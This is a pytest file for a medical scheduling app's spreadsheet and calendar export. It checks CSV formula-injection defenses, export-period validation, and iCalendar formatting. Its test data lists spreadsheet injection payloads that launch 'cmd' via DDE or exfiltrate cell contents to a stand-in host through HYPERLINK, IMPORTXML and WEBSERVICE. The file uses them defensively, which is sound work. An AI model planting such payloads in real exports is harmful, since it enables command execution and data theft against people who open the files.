"""Files for spreadsheets and calendars: what is in them, and that nothing in them runs."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from uuid import UUID

import pytest
from icalendar import Calendar

from maiia_pro.agenda.calendar import CalendarEntry, calendar_file
from maiia_pro.agenda.export import ExportRequest, safe_cell, table_file
from maiia_pro.kernel.errors import Invalid

pytestmark = pytest.mark.unit

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://ailleurs.exemple/?\"&A1;\"Cliquez\")",
    "=IMPORTXML(CONCAT(\"http://ailleurs.exemple/?\";A1:A9);\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://ailleurs.exemple\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+41 22 345 67 89",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "  \t@SUM(A1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=\";\"&A1",
]  # fmt: skip


def read(content: bytes, delimiter: str = ";") -> list[list[str]]:
    """Read a file back as a spreadsheet does."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_run_is_shown_instead(formula: str):
    ((cell, _),) = read(table_file(("a", "b"), [(formula, "x")]))[1:]
    assert cell == "'" + re.sub(r"[\r\n]+", " ", formula)


@pytest.mark.parametrize("text", ["Josiane Keller", "12-03", "a=b", "06\u00a012\u00a034\u00a056\u00a078", "", 'L’Hôte; "Guy"'])
def test_an_ordinary_cell_stays_as_it_is(text: str):
    assert safe_cell(text) == text
    assert read(table_file(("a",), [(text,)]))[1:] == [[text]]


def test_no_separator_in_a_cell_begins_another_one():
    content = table_file(("a", "b"), [("x;=1+1", 'y";"=1+1'), ("x,=1+1", "y\r\n=1+1")])
    assert read(content)[1:] == [["x;=1+1", 'y";"=1+1'], ["x,=1+1", "y =1+1"]]
    assert all(not cell.startswith("=") for row in read(content, ",") for cell in row)


def test_the_file_says_that_it_is_utf_8_and_ends_its_lines_as_spreadsheets_do():
    content = table_file(("Prénom",), [("Zoë",)])
    assert content == b"\xef\xbb\xbf" + '"Prénom"\r\n"Zoë"\r\n'.encode()


DAY = "2026-11-25"


@pytest.mark.parametrize(
    ("first", "last", "kind", "wrong"),
    [
        ("", DAY, "csv", {"first"}),
        ("demain", "0001-01-01", "csv", {"first", "last"}),
        (DAY, "2026-11-24", "csv", {"last"}),
        (DAY, "2027-11-27", "csv", {"last"}),
        (DAY, DAY, "exe", {"kind"}),
        (None, None, None, {"first", "last", "kind"}),
    ],
)
def test_a_wrong_period_is_refused_by_field(first, last, kind, wrong):
    with pytest.raises(Invalid) as refusal:
        ExportRequest.parse("", first, last, kind)
    assert set(refusal.value.fields) == wrong


def test_a_year_is_a_period():
    asked = ExportRequest.parse("tous", DAY, "2027-11-26", "ics")
    assert (asked.practitioner_id, asked.first, asked.last) == (None, date(2026, 11, 25), date(2027, 11, 26))


STARTS = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
PLACE = "Cabinet d’Angers, 12 rue des Lices; étage 2, 49000 Angers"
ENTRY = CalendarEntry(
    UUID(int=7), 3, STARTS, STARTS + timedelta(minutes=20), "Rendez-vous", PLACE, False,
    datetime(2026, 11, 20, 10, 0, tzinfo=UTC),
)  # fmt: skip


def lines_of(content: bytes) -> list[str]:
    """Unfold the lines of a calendar by hand (RFC 5545, section 3.1)."""
    return content.decode().replace("\r\n ", "").split("\r\n")


def test_an_appointment_is_an_event_with_all_that_calendars_need():
    lines = lines_of(calendar_file("Rendez-vous · Dr Claire Vasseur", [ENTRY]))
    event = lines[lines.index("BEGIN:VEVENT") : lines.index("END:VEVENT")]
    assert set(event[1:]) == {
        "UID:00000000-0000-0000-0000-000000000007@maiia-pro",
        "SEQUENCE:3",
        "DTSTAMP:20261120T100000Z",
        "DTSTART:20261125T080000Z",
        "DTEND:20261125T082000Z",
        "SUMMARY:Rendez-vous",
        "LOCATION:Cabinet d’Angers\\, 12 rue des Lices\\; étage 2\\, 49000 Angers",
        "STATUS:CONFIRMED",
        "CLASS:PRIVATE",
    }
    assert "REFRESH-INTERVAL;VALUE=DURATION:PT15M" in lines
    assert not any(line.startswith("METHOD") for line in lines)


def test_no_line_is_longer_than_calendars_read():
    content = calendar_file("x" * 300, [ENTRY])
    assert max(len(line) for line in content.split(b"\r\n")) <= 75


def test_the_same_appointments_are_the_same_bytes():
    assert calendar_file("a", [ENTRY]) == calendar_file("a", [ENTRY])


def test_an_empty_calendar_is_a_calendar():
    assert Calendar.from_ical(calendar_file("a", [])).walk("VEVENT") == []
